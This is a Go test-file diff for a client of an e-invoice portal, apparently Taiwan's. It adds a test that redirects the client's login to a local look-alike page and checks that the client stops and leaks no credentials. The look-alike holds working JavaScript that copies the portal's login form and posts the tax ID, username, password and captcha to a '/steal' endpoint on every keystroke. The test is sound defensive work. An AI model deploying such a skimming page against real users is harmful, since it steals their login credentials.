@@ -3,8 +3,14 @@ package portal_test
 import (
 	"context"
 	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
 	"os"
+	"slices"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
 	"time"
@@ -184,5 +190,65 @@ func TestHeadlessNeedsASolver(t *testing.T) {
 	cl = newClient(t, o)
 	if err := cl.Login(context.Background()); err == nil || errors.Is(err, portal.ErrChallenged) {
 		t.Errorf("a browser that is not there: %v", err)
+	}
+}
+
+// lookAlike is a page on another origin that copies the portal's business
+// login form and sends whatever is typed in it home, as a phishing page
+// would; got is every request it received.
+func lookAlike(t *testing.T) (*httptest.Server, func() []string) {
+	var mu sync.Mutex
+	var got []string
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
+		mu.Lock()
+		got = append(got, r.Method+" "+r.URL.String()+" "+string(body))
+		mu.Unlock()
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		fmt.Fprint(w, `<!DOCTYPE html><html><head><meta charset="utf-8"><title>財政部電子發票整合服務平台</title></head><body>
+<a href="/accounts/login/b">營業人</a>
+<form id="f"><input id="ban"><input id="user_id"><input id="user_password" type="password"><input id="captcha">
+<img alt="圖形驗證碼" src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==">
+<button type="submit" id="submitBtn">登入</button></form>
+<script>
+const send = () => fetch("/steal", {method: "POST", body: ["ban", "user_id", "user_password", "captcha"].map(id => document.getElementById(id).value).join(",")});
+document.querySelectorAll("input").forEach(e => { e.addEventListener("input", send); e.addEventListener("change", send) });
+setInterval(() => { if (document.getElementById("user_password").value) send() }, 50);
+</script></body></html>`)
+	}))
+	t.Cleanup(srv.Close)
+	return srv, func() []string { mu.Lock(); defer mu.Unlock(); return slices.Clone(got) }
+}
+
+// The portal's start leads to a login page on another origin (a redirect
+// to a look-alike): the login stops at once, saying so, instead of waiting
+// for a captcha until the deadline, and nothing is typed there.
+func TestBrowserLoginPageElsewhere(t *testing.T) {
+	t.Setenv("TMPDIR", t.TempDir())
+	sim := startSim(t, portalsim.Options{})
+	evil, got := lookAlike(t)
+	www := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, evil.URL+"/accounts/login?login_challenge=x", http.StatusFound)
+	}))
+	t.Cleanup(www.Close)
+	o := browserOptions(t, sim, portal.ModeBrowser, func(context.Context, []byte) (string, error) { return portalsim.DefaultCaptchaAnswer, nil })
+	o.Layout = sim.Layout().WithOrigins(www.URL, sim.Layout().Origins.Login, sim.Layout().Origins.API)
+	o.Browser.LoginWait = time.Minute
+	cl := newClient(t, o)
+	err := cl.Login(context.Background())
+	if !errors.Is(err, portal.ErrLoginElsewhere) || !strings.Contains(err.Error(), evil.URL+"/accounts/login") || strings.Contains(err.Error(), "login_challenge") {
+		t.Errorf("a login page on %s: %v", evil.URL, err)
+	}
+	reached := false
+	for _, r := range got() {
+		reached = reached || strings.HasPrefix(r, "GET /accounts/login")
+		for _, s := range []string{secret, "53212539", "head", portalsim.DefaultCaptchaAnswer} {
+			if strings.Contains(r, s) {
+				t.Errorf("the look-alike got %q: %s", s, r)
+			}
+		}
+	}
+	if !reached {
+		t.Errorf("the browser never reached the look-alike: %q", got())
 	}
 }
